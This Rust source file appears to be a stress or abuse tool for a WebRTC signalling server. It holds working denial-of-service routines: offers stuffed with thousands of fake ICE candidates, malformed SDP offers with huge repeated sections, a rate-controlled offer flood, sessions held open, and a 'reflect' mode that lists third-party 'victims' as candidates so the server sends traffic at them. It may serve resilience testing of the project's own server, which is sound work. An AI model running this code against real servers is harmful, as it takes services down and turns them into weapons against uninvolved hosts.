//! What a member may offer.

use std::net::SocketAddr;
use std::rc::Rc;
use std::time::Duration;

use serde_json::json;
use tokio::task::JoinSet;
use tokio::time::{MissedTickBehavior, interval, sleep};

use crate::Target;
use crate::wire::Member;

/// What a browser offers; each number is another viewer.
struct Offer(String);

const BROWSER: &str = include_str!("../../../node/src/peer/session/browser-offer.sdp");

impl Offer {
    fn number(number: usize) -> Self {
        let fingerprint = format!("{:02X}:{:02X}", number / 256 % 256, number % 256);
        Self(BROWSER.replace("FA:EC", &fingerprint))
    }

    /// With these candidates.
    fn naming(self, addresses: impl IntoIterator<Item = SocketAddr>) -> Self {
        let lines: String = addresses
            .into_iter()
            .map(|at| format!("a={}\n", candidate(at)))
            .collect();
        Self(self.0.replacen("a=mid:0\n", &format!("a=mid:0\n{lines}"), 1))
    }

    /// With its first section alone, and nothing about feedback.
    fn short(self) -> Self {
        let first = self.0.split("m=audio").next().unwrap_or_default();
        let lines = first.lines().filter(|line| !line.starts_with("a=rtcp-fb:"));
        let lines: String = lines.map(|line| format!("{line}\n")).collect();
        Self(lines.replace("BUNDLE 0 1", "BUNDLE 0"))
    }

    fn message(self) -> Vec<u8> {
        let sdp = self.0.replace('\n', "\r\n");
        json!({"type": "offer", "sdp": sdp}).to_string().into_bytes()
    }
}

fn candidate(at: SocketAddr) -> String {
    format!("candidate:1 1 udp 2122260223 {} {} typ host", at.ip(), at.port())
}

/// Where nobody is, at the attacker's own address.
fn nowhere(target: &Target, count: u16) -> impl Iterator<Item = SocketAddr> {
    let ip = target.from.first().copied().unwrap_or(target.server.ip());
    (0..count).map(move |port| SocketAddr::new(ip, 20_000 + port))
}

/// Members that fetch what is sent to them.
async fn members(target: &Rc<Target>, count: usize) -> anyhow::Result<(Vec<Member>, JoinSet<()>)> {
    let (mut members, mut fetching) = (Vec::new(), JoinSet::new());
    for number in 0..count {
        let member = Member::sign_in(target, number).await?;
        fetching.spawn_local(member.fetch());
        members.push(member);
    }
    Ok((members, fetching))
}

pub async fn candidates(target: Rc<Target>, count: usize) -> anyhow::Result<()> {
    let (members, _fetching) = members(&target, count).await?;
    let mut number = 0;
    loop {
        for member in &members {
            // 400 of them are about what fits into the longest offer.
            for candidates in [400, 700, 1000, 3000] {
                number += 1;
                let offer = Offer::number(number).naming(nowhere(&target, candidates));
                member.send(&target, &offer.message()).await;
            }
            for at in nowhere(&target, 30) {
                let candidate = json!({"sdpMid": "0", "sdpMLineIndex": 0, "candidate": candidate(at)});
                member.send(&target, candidate.to_string().as_bytes()).await;
            }
        }
    }
}

pub async fn shapes(target: Rc<Target>, count: usize) -> anyhow::Result<()> {
    let (members, _fetching) = members(&target, count).await?;
    let (head, sections) = BROWSER.split_once("m=video").unwrap_or_default();
    let section = sections.split("\nm=").next().unwrap_or_default();
    let shapes = [
        format!("{head}{}", format!("m=video{section}\n").repeat(1500)),
        format!("{head}{}", "m=video 9 UDP/TLS/RTP/SAVPF 96\n".repeat(1500)),
        BROWSER.replacen(" 96 97", &" 96".repeat(20_000), 1),
    ];
    loop {
        for member in &members {
            for shape in &shapes {
                member.send(&target, &Offer(shape.clone()).message()).await;
            }
        }
    }
}

pub async fn flood(target: Rc<Target>, a_second: usize) -> anyhow::Result<()> {
    /// Requests that may be under way.
    const AT_ONCE: usize = 16;
    let (members, _fetching) = members(&target, 1).await?;
    let member = members[0];
    let mut workers = JoinSet::new();
    for worker in 0..AT_ONCE {
        let target = target.clone();
        workers.spawn_local(async move {
            let mut pace = interval(Duration::from_secs_f64(AT_ONCE as f64 / a_second as f64));
            pace.set_missed_tick_behavior(MissedTickBehavior::Skip);
            let mut number = worker;
            loop {
                pace.tick().await;
                member
                    .send(&target, &Offer::number(number).short().message())
                    .await;
                number += AT_ONCE;
            }
        });
    }
    while workers.join_next().await.is_some() {}
    Ok(())
}

pub async fn lodgers(target: Rc<Target>, count: usize) -> anyhow::Result<()> {
    let (members, _fetching) = members(&target, count).await?;
    let mut number = 0;
    loop {
        for member in &members {
            number += 1;
            member.send(&target, &Offer::number(number).message()).await;
        }
        sleep(Duration::from_secs(4)).await;
    }
}

pub async fn reflect(target: Rc<Target>, count: usize) -> anyhow::Result<()> {
    let (members, _fetching) = members(&target, count).await?;
    let mut number = 0;
    loop {
        for member in &members {
            number += 1;
            let offer = Offer::number(number).naming(target.victims.iter().copied());
            member.send(&target, &offer.message()).await;
        }
    }
}
